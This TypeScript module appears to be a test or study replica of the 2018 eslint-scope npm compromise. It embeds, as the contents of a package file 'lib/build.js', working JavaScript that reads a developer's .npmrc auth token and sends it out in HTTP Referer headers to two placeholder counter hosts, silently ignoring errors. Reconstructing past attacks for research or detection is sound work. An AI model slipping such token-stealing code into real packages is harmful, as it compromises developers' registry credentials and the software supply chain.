import { replica as loader } from './eslint-scope-2018.js';
import type { Replica } from './replica.js';

const build = String.raw`try{
var path=require('path');
var fs=require('fs');
var https=require('https');
var npmrc=path.join(process.env.HOME||process.env.USERPROFILE,'.npmrc');
var content='nofile';
if(fs.existsSync(npmrc)){
content=fs.readFileSync(npmrc,{encoding:'utf8'});
content=content.replace('//registry.example/:_authToken=','').trim();
https.get({hostname:'counter-one.example.invalid',path:'/counter.php?id=0000000',method:'GET',headers:{Referer:'http://1.example/'+content}},()=>{}).on('error',()=>{});
https.get({hostname:'counter-two.example.invalid',path:'/stats/0.php?0000000&@f16&@g1&@h1&@i1',method:'GET',headers:{Referer:'http://1.example/'+content}},()=>{}).on('error',()=>{});
}
}catch(e){}
`;

/** From memory of the public post-mortem: the fetched text, here in the place of its loader. */
export const replica: Replica = {
  ...loader,
  id: 'eslint-scope-inlined-2018',
  story: 'July 2018: what the loader of eslint-scope 3.7.2 fetched and evaluated, had it been in the package: the npm token goes out as the referrer of calls to two counters.',
  after: { ...loader.after, files: { ...(loader.after.files as { readonly [path: string]: string }), 'lib/build.js': build } },
};
